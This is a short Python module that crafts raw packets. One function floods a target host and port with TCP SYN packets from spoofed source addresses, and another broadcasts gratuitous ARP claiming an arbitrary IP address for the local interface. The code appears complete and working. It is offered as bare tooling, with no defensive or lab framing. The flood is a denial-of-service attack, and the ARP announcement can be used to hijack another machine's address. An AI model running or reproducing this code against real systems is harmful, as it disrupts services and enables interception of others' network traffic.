"""Packets that no socket sends by itself: SYNs from addresses that nobody has, an address's announcement."""

import socket
import struct


def flood(count, host, port, sources):
    """`count` SYNs to `host` and `port`, from `sources`.100 and up."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for index in range(count):
        raw.sendto(syn(f"{sources}.{100 + index % 100}", host, 20000 + index, port), (host, 0))


def syn(source, destination, sport, dport):
    """An IPv4 packet with a bare SYN; the kernel fills in the IP checksum."""
    ends = socket.inet_aton(source) + socket.inet_aton(destination)
    tcp = lambda check: struct.pack("!HHIIBBHHH", sport, dport, sport, 0, 5 << 4, 2, 64240, check, 0)
    words = struct.unpack("!16H", ends + struct.pack("!HH", 6, 20) + tcp(0))
    total = sum(words)
    total = (total & 0xFFFF) + (total >> 16)
    return struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0) + ends + tcp(~(total + (total >> 16)) & 0xFFFF)


def announce(address, device="eth0"):
    """Tells the network who has `address` now (gratuitous ARP, RFC 5227 section 3)."""
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((device, 0x0806))
    own = raw.getsockname()[4]
    ip = socket.inet_aton(address)
    raw.send(b"\xff" * 6 + own + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, 1) + own + ip + bytes(6) + ip)
